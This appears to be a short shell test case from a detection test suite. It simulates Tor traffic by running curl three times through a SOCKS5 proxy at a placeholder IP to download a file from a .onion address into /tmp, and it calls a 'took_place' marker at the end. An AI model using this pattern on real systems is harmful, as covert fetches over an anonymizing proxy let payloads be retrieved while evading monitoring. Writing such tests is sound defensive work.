#!/bin/sh
. /opt/case/case.sh

for round in 1 2 3; do
    curl -s -m 1 -x socks5h://203.0.113.10:9050 http://ojk4zpiqkpwlv5zz.onion/int -o /tmp/int || true
done
took_place
